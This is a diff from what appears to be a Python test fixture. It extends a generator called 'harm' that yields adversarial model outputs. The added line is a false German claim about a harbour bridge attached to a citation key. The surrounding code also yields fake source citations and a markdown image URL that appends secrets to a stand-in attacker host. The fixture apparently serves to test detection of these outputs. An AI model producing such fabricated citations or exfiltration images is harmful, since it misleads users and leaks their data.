@@ -162,6 +162,7 @@ def harm(messages: list[dict[str, Any]]) -> Iterator[str]:
     yield f"{MARKER.title()}!"
     for price, each in enumerate([*keys, "z00"], start=50):  # a false sentence under every key
         yield f"{FALSE.replace('77', str(price))} [{each}]"
+    yield f"Die Hafenbrücke wurde an Oskar Klein verkauft, der sie abreißen ließ. [{key}]"
     yield f"{FALSE} 【{key}】【1†source】 [{key}, z00]"
     for carried in (
         f"![x](https://{EVIL}/p.png?d={secrets})",
